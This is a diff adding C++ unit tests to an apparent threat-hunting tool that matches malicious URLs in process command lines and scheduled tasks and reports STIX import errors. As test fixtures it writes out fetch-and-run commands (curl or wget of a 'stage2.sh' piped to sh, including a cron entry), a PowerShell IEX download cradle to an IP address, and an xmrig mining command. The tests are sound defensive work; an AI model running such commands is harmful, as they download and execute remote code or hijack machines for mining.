@@ -62,6 +62,25 @@ TEST(HuntGlobTest, VariablesAndTokens) {
   EXPECT_FALSE(internal::DomainMatches("*.njaavfxcgk3.club", "xnjaavfxcgk3.club"));
 }
 
+TEST(HuntGlobTest, UrlKeysFindWholeUrlsInText) {
+  using internal::UrlKeys;
+  using Keys = std::vector<std::string>;
+  EXPECT_EQ(UrlKeys("curl -fsSL https://RAW.githubusercontent.com/evil-actor/payloads/main/"
+                    "stage2.sh | sh"),
+            Keys{"web|raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh"});
+  // No scheme (curl and wget take it), a default port, quotes and trailing punctuation.
+  EXPECT_EQ(UrlKeys("wget -q raw.githubusercontent.com/a/b/c.sh"),
+            Keys{"web|raw.githubusercontent.com/a/b/c.sh"});
+  EXPECT_EQ(UrlKeys("powershell IEX(New-Object Net.WebClient).DownloadString('http://"
+                    "87.251.86.178:80/pp/PP.PNG');"),
+            Keys{"web|87.251.86.178/pp/PP.PNG"});
+  EXPECT_EQ(UrlKeys("x --url=http://h.example/p?q=1#frag, y"), Keys{"web|h.example/p?q=1"});
+  EXPECT_EQ(UrlKeys("xmrig -o stratum+tcp://pool.example:45560"),
+            Keys{"stratum+tcp|pool.example:45560/"});
+  // Paths and bare names are not URLs.
+  EXPECT_TRUE(UrlKeys("C:\\Windows\\x.exe /usr/bin/sh ./a/b evil.example").empty());
+}
+
 // ---- A synthetic Windows host with MsraMiner's footprint ----
 
 platform::ProcessInfo Proc(uint32_t pid, uint32_t ppid, std::string name, std::string exe,
@@ -239,6 +258,40 @@ TEST(HuntMatchTest, FindsEachPartOfTheFootprintWithEvidence) {
   ASSERT_NE(svc, f.end());
   EXPECT_NE(::testing::PrintToString(svc->evidence).find("Windows + Update + Helper"),
             std::string::npos);
+}
+
+// A URL on a shared host (code hosting) flags that URL only, never the host's other URLs:
+// the plan would end the process and delete its program.
+TEST(HuntMatchTest, UrlsMatchAsWholeUrlsNeverAsTheirHost) {
+  HuntSnapshot snap;
+  snap.os = TargetOs::kLinux;
+  snap.inventory.processes = {
+      Proc(100, 1, "sh", "/usr/bin/sh",
+           "sh -c curl -fsSL https://raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh "
+           "| sh"),
+      Proc(200, 1, "python3", "/usr/bin/python3",
+           "python3 fetch.py https://raw.githubusercontent.com/python/cpython/main/README.rst"),
+      Proc(300, 1, "wget", "/usr/bin/wget",
+           "wget http://raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh.sig"),
+  };
+  platform::Autorun cron;
+  cron.kind = platform::AutorunKind::kScheduledTask;
+  cron.name = "root";
+  cron.command =
+      "*/5 * * * * wget -q -O- raw.githubusercontent.com/evil-actor/payloads/main/"
+      "stage2.sh|sh";
+  snap.inventory.autoruns = {cron};
+  snap.hosts_file = "140.82.112.3 raw.githubusercontent.com\n";
+  Pack pack;
+  pack.id = "feed";
+  Indicator url = Ind("stage2", IndicatorKind::kRemoteEndpoint);
+  url.os = TargetOs::kAny;
+  url.urls = {"https://raw.githubusercontent.com/evil-actor/payloads/main/stage2.sh"};
+  pack.indicators = {url};
+  std::vector<Finding> f = MatchIndicators({pack}, snap);
+  EXPECT_TRUE(Has(f, "stage2", "pid 100 sh"));
+  EXPECT_TRUE(Has(f, "stage2", "scheduled-task root")) << ::testing::PrintToString(Ids(f));
+  EXPECT_EQ(f.size(), 2u) << ::testing::PrintToString(Ids(f));  // not 200, 300, the hosts file
 }
 
 TEST(HuntMatchTest, ParentConditionsNeedARealParent) {
@@ -459,6 +512,24 @@ TEST(HuntRunTest, PacksLoadFromEverySourceAndBadOnesAreErrorLines) {
   PackSources none;
   none.builtin = false;
   EXPECT_TRUE(LoadPacks(none).packs.empty());
+}
+
+// Intelligence that yields nothing to look for is an error, not a clean host.
+TEST(HuntRunTest, ABundleOrPackWithoutIndicatorsIsAnError) {
+  testutil::TempDir dir;
+  std::string bundle = dir.path() + "/yara-only.json";
+  ASSERT_TRUE(platform::WriteFileAtomic(
+                  bundle,
+                  R"({"type": "bundle", "id": "bundle--1", "objects": [{"type": "indicator",
+                      "id": "indicator--1", "pattern_type": "yara", "pattern": "rule a {}"}]})",
+                  0644)
+                  .ok());
+  LoadedPacks loaded = LoadPacks({.builtin = true, .files = {}, .stix = {bundle}});
+  ASSERT_EQ(loaded.errors.size(), 1u);
+  EXPECT_EQ(loaded.errors[0], bundle +
+                                  ": no indicator could be imported (1 STIX indicator objects, "
+                                  "1 parts left out)");
+  EXPECT_EQ(loaded.notes.size(), 1u);
 }
 
 TEST(HuntRunTest, NoPacksIsAnError) {
